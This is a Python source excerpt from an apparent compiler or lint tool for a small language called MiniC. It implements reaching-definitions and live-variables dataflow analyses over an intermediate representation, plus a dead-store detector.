# -- helpers shared by the instances -------------------------------------------


def local_names(
    function: IRFunction, global_names: FrozenSet[str]
) -> FrozenSet[str]:
    """Every register local to *function*: params, user variables and
    compiler temporaries — anything referenced that is not a global."""
    names = set(function.params)
    for instr in function.instrs:
        dst = instr.defs()
        if dst is not None:
            names.add(dst)
        names.update(instr.uses())
    return frozenset(names - set(global_names))


# -- reaching definitions ------------------------------------------------------


class ReachingDefinitions(DataflowProblem):
    """Forward/may: which (name, def-site) pairs may reach each point.

    Definition sites are instruction indices, plus the synthetic sites
    :data:`PARAM_DEF` (parameters), :data:`GLOBAL_DEF` (module globals)
    and :data:`UNINIT_DEF` (hoisted locals before their first
    assignment — MiniC reads those as nil, which the lint flags).
    """

    direction = FORWARD
    kind = MAY

    def __init__(
        self, function: IRFunction, global_names: Iterable[str] = ()
    ) -> None:
        self.function = function
        self.globals = frozenset(global_names)
        self.locals = local_names(function, self.globals)

    def boundary(self) -> Fact:
        entry: set = {(param, PARAM_DEF) for param in self.function.params}
        entry.update((name, GLOBAL_DEF) for name in self.globals)
        entry.update(
            (name, UNINIT_DEF)
            for name in self.locals
            if name not in self.function.params
        )
        return frozenset(entry)

    def transfer(self, index: int, instr: ins.Instr, fact: Fact) -> Fact:
        dst = instr.defs()
        if dst is None:
            return fact
        survived = {pair for pair in fact if pair[0] != dst}
        survived.add((dst, index))
        return frozenset(survived)

    def defs_reaching(
        self, result: DataflowResult, index: int, name: str
    ) -> FrozenSet[int]:
        """Definition sites of *name* that may reach instruction *index*."""
        fact = result.before(index) or frozenset()
        return frozenset(site for var, site in fact if var == name)


# -- live variables ------------------------------------------------------------


class LiveVariables(DataflowProblem):
    """Backward/may: which names may still be read later.

    Globals are live at exit (other functions and threads read them);
    locals die there.
    """

    direction = BACKWARD
    kind = MAY

    def __init__(
        self, function: IRFunction, global_names: Iterable[str] = ()
    ) -> None:
        self.function = function
        self.globals = frozenset(global_names)

    def boundary(self) -> Fact:
        return self.globals

    def transfer(self, index: int, instr: ins.Instr, fact: Fact) -> Fact:
        dst = instr.defs()
        if dst is not None:
            fact = fact - {dst}
        uses = instr.uses()
        if uses:
            fact = fact | frozenset(uses)
        return fact


def dead_stores(
    function: IRFunction, global_names: Iterable[str] = ()
) -> List[int]:
    """Indices whose defined register is never live afterwards.

    Only counts pure value-producing instructions — a call or syscall
    with an unused result is not a *dead store* (its effects matter).
    """
    problem = LiveVariables(function, global_names)
    result = solve(problem, function)
    pure = (ins.Const, ins.Move, ins.Binop, ins.Unop, ins.LoadIndex, ins.NewList)
    dead: List[int] = []
    for index, instr in enumerate(function.instrs):
        dst = instr.defs()
        if dst is None or not isinstance(instr, pure):
            continue
        live_after = result.after(index) or frozenset()
        if dst not in live_after:
            dead.append(index)
    return dead
